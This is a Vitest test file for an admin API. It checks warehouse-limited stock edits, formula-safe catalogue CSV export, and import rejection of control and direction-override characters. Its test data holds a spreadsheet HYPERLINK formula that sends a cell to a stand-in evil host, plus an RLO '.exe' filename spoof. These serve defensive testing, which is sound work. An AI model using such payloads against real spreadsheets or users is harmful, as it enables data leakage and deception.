import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IMPORT_MESSAGES } from '../../contract/admin/item-import';
import { STOCK_MESSAGES } from '../../contract/admin/stock';
import { fieldName, TEXT_MESSAGES } from '../../contract/text';
import { adminCall, ownerSession, type StaffSessionForTest, staffWith } from '../test-support/admin';
import { keyCall, newApiKey } from '../staff/testing';
import { parseCsv } from '../catalogue/csv';
import { loadFixtureCatalogue } from '../catalogue/test-fixture';
import { bodyOf, editorOf, putItem } from '../catalogue/item-editor/test-helpers';
import { multipart } from '../catalogue/photos/test-images';
import { createTestApp, type TestApp } from '../test-support/test-app';

/**
 * Issue 27, the staff side: a warehouse member limited to one warehouse cannot set the other's
 * counts through the bulk call (row by row, as Adjust refuses it); the catalogue export cannot
 * carry a formula into a spreadsheet (and still round-trips); the catalogue import applies the
 * API's text rule, so control characters and direction overrides never reach buyers.
 */

let t: TestApp;
let owner: StaffSessionForTest;
let west: StaffSessionForTest;
let editor: StaffSessionForTest;
beforeAll(async () => {
  t = await createTestApp((ctx) => loadFixtureCatalogue(ctx.database.db));
  owner = await ownerSession(t);
  west = await staffWith(t, ['warehouse'], 'west');
  editor = await staffWith(t, ['catalogue']);
}, 60_000);
afterAll(() => t?.close());

const stockOf = async (num: string) => (await adminCall(t, owner, { method: 'GET', url: `/Stock/${num}` })).body;
const movementsOf = async (num: string) => (await adminCall(t, owner, { method: 'GET', url: `/Stock/${num}/Movements` })).body as unknown[];

function upload(file: string, dryRun: '0' | '1') {
  const body = multipart([{ name: 'file', value: Buffer.from(file), filename: 'items.csv', type: 'text/csv' }]);
  return adminCall(t, editor, { method: 'POST', url: `/Items/Import?dryRun=${dryRun}`, payload: body.payload, headers: body.headers });
}

const exportCsv = async (query: string) => {
  const res = await adminCall(t, editor, { method: 'GET', url: `/Items/Export.csv${query}` });
  expect(res.status).toBe(200);
  return Buffer.from(res.body as Buffer).toString('utf8');
};

describe('PUT /beapi/Admin/Stock: the warehouse limit, row by row', () => {
  it("refuses a West-only member's East rows (each its own error, nothing changed) and applies the West rows", async () => {
    const before = { a: await stockOf('11002'), b: await stockOf('11003') };
    const moves = await movementsOf('11003');
    const rows = [
      { invNum: '11002', warehouse: 'west', onHand: before.a.west.onHand + 5 },
      { invNum: '11002', warehouse: 'east', onHand: 0 },
      { invNum: '11003', warehouse: 'east', onHand: 999_999 },
    ];
    const res = await adminCall(t, west, { method: 'PUT', url: '/Stock', payload: rows });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      updated: 1,
      errors: [
        { row: 2, message: STOCK_MESSAGES.otherWarehouse('west') },
        { row: 3, message: STOCK_MESSAGES.otherWarehouse('west') },
      ],
    });
    expect(await stockOf('11002')).toEqual({ ...before.a, west: { available: before.a.west.available + 5, onHand: before.a.west.onHand + 5 } });
    expect(await stockOf('11003')).toEqual(before.b);
    expect(await movementsOf('11003')).toEqual(moves);
    // The same as Adjust answers for the other warehouse.
    const adjust = await adminCall(t, west, { method: 'POST', url: '/Stock/Adjust', payload: { invNum: '11003', warehouse: 'east', setTo: 0, reason: 'count', note: '' } });
    expect(adjust.status).toBe(403);
    expect(adjust.body.detail).toBe(STOCK_MESSAGES.otherWarehouse('west'));
  });

  it('an owner and an API key (no warehouse limit) count either warehouse', async () => {
    const key = (await newApiKey(t, owner, ['stock:write'])).key;
    const byKey = await keyCall(t, key, { method: 'PUT', url: '/Stock', payload: [{ invNum: '12001', warehouse: 'east', onHand: 44 }, { invNum: '12001', warehouse: 'west', onHand: 33 }] });
    expect(byKey.body).toEqual({ updated: 2, errors: [] });
    const byOwner = await adminCall(t, owner, { method: 'PUT', url: '/Stock', payload: [{ invNum: '12001', warehouse: 'east', onHand: 45 }] });
    expect(byOwner.body).toEqual({ updated: 1, errors: [] });
    expect(await stockOf('12001')).toMatchObject({ west: { onHand: 33 }, east: { onHand: 45 } });
  });
});

describe('the catalogue export: no formulas, and a round trip still changes nothing', () => {
  const titles = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '-5 Red Latex', '+1 Gold', '@SUM(A1:A9)', "'=already quoted", "'plain quote"];

  it('writes every cell that starts with = + - @ behind a quote, and the import reads the titles back as they were', async () => {
    const nums = ['11001', '11002', '11003', '12001', '30001', '30002'];
    for (const [i, num] of nums.entries()) {
      const item = await editorOf(t, editor, num);
      const res = await putItem(t, editor, num, bodyOf(item, { web_Title: titles[i]!, key_Words: i === 0 ? '-sale +new' : item.key_Words }));
      expect(res.status, titles[i]).toBe(200);
    }
    const csv = await exportCsv('');
    const { records } = parseCsv(csv);
    const header = records[0]!.fields;
    const rows = new Map(records.slice(1).map((r) => [r.fields[0]!, r.fields]));
    const cell = (num: string, column: string) => rows.get(num)![header.indexOf(column)]!;
    // No cell of the file starts with what a spreadsheet reads as a formula.
    for (const r of records) for (const f of r.fields) expect(f, f).not.toMatch(/^[=+\-@\t\r]/);
    expect(cell('11001', 'web_title')).toBe(`'${titles[0]}`);
    expect(cell('11001', 'key_words')).toBe("'-sale +new");
    expect(cell('11002', 'web_title')).toBe("'-5 Red Latex");
    expect(cell('30001', 'web_title')).toBe("''=already quoted");
    expect(cell('30002', 'web_title')).toBe("'plain quote");

    const dry = await upload(csv, '1');
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({ new: [], changed: [], errors: [], unchanged: records.length - 1 });
    // Applied, the titles stay exactly as the editor saved them.
    const applied = await upload(csv, '0');
    expect(applied.status).toBe(202);
    for (let i = 0; i < 100 && (await adminCall(t, editor, { method: 'GET', url: `/Items/Import/${applied.body.jobId}` })).body.status === 'running'; i++) await new Promise((r) => setTimeout(r, 50));
    for (const [i, num] of nums.entries()) expect((await editorOf(t, editor, num)).web_Title).toBe(titles[i]);
  });
});

describe('the catalogue import: the text rule of the API', () => {
  /** A column's words in a message: its label, as the text rule names it. */
  const label = (column: string) => fieldName({ path: [column] });
  const header = 'num,category_num,web_title,price,srp,brand,product_info_html,colors';
  const bad: [string, string, string][] = [
    ['web_title', `11" Red\u001b[31m Latex`, TEXT_MESSAGES.singleLine(label('web_title'))],
    ['brand', 'Sky\u0007line', TEXT_MESSAGES.singleLine(label('brand'))],
    ['web_title', 'Red \u202egnp.exe', TEXT_MESSAGES.singleLine(label('web_title'))],
    ['brand', 'Sky\u2028line', TEXT_MESSAGES.singleLine(label('brand'))],
    ['product_info_html', '<p>one</p><p>\u001b two</p>', TEXT_MESSAGES.multiLine(label('product_info_html'))],
    ['product_info_html', '<p>\u2066isolate</p>', TEXT_MESSAGES.multiLine(label('product_info_html'))],
    ['colors', 'Red|Bl\u001bue', TEXT_MESSAGES.singleLine(label('colors'))],
    ['web_title', '\u200b\u200b', 'must not be empty'],
  ];
  const quoted = (v: string) => `"${v.replace(/"/g, '""')}"`;
  const row = (num: string, over: Record<string, string>) =>
    [num, '11', quoted(over.web_title ?? 'Fine title'), '1.00', '2.00', quoted(over.brand ?? 'Skyline'), quoted(over.product_info_html ?? '<p>Fine</p>'), quoted(over.colors ?? 'Red')].join(',');

  it('names the row and the column of every value with control characters, direction overrides or separators; the file applies nothing', async () => {
    const lines = [header, row('11001', {}), ...bad.map(([column, value], i) => row(String(11081 + i), { [column]: value }))];
    const csv = `${lines.join('\r\n')}\r\n`;
    const dry = await upload(csv, '1');
    expect(dry.status).toBe(200);
    expect(dry.body.errors).toEqual(bad.map(([column, , message], i) => ({ row: i + 3, message: `${column}: ${message}` })));
    const before = await editorOf(t, editor, '11001');
    const res = await upload(csv, '0');
    expect(res.status).toBe(400);
    expect(res.body.detail).toBe(IMPORT_MESSAGES.hasErrors(bad.length));
    expect((await editorOf(t, editor, '11001')).web_Title).toBe(before.web_Title);
    for (let i = 0; i < bad.length; i++) expect((await adminCall(t, editor, { method: 'GET', url: `/Items/${11081 + i}` })).status).toBe(404);
  });

  it('takes line breaks in product info (multi-line) and the same file without the bad characters', async () => {
    const csv = `${[header, row('11091', { product_info_html: '<p>one</p>\r\n<p>two</p>' })].join('\r\n')}\r\n`;
    const dry = await upload(csv, '1');
    expect(dry.body).toMatchObject({ new: [{ num: '11091', title: 'Fine title' }], errors: [] });
    const res = await upload(csv, '0');
    expect(res.status).toBe(202);
    for (let i = 0; i < 100 && (await adminCall(t, editor, { method: 'GET', url: `/Items/Import/${res.body.jobId}` })).body.status === 'running'; i++) await new Promise((r) => setTimeout(r, 50));
    expect((await editorOf(t, editor, '11091')).web_Product_Info).toBe('<p>one</p>\n<p>two</p>');
  });
});
